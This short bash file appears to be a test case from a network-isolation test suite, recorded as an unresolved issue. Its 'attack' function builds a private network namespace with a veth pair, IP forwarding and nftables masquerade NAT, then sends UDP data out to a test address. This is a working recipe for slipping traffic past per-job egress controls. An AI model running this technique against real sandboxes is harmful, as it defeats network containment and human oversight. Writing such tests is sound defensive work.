# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A network namespace made inside, routed through the job'
origin='issue 4'
reason='not_resolved'
who=root forms=forward
attack() {
    # Nothing of it is left in the client's host.
    client bash -c '
        unshare -n sleep 4 & inner=$!
        for i in {1..40}; do [ "$(readlink /proc/$inner/ns/net)" != "$(readlink /proc/self/ns/net)" ] && break; sleep 0.05; done
        ip link add red0 type veth peer name red1 netns $inner && ip addr add 192.0.2.1/30 dev red0 && ip link set red0 up
        nsenter -t $inner -n sh -c "ip addr add 192.0.2.2/30 dev red1; ip link set red1 up; ip route add default via 192.0.2.1"
        echo 1 > /proc/sys/net/ipv4/ip_forward
        nft "add table ip red; add chain ip red post { type nat hook postrouting priority 100; }; add rule ip red post ip saddr 192.0.2.2 masquerade"
        nsenter -t $inner -n "$@"
        nft delete table ip red; ip link del red0; kill $inner' bash "$PYTHON" "$TOOL/send.py" udp 198.18.3.66 9999 "$1"
}
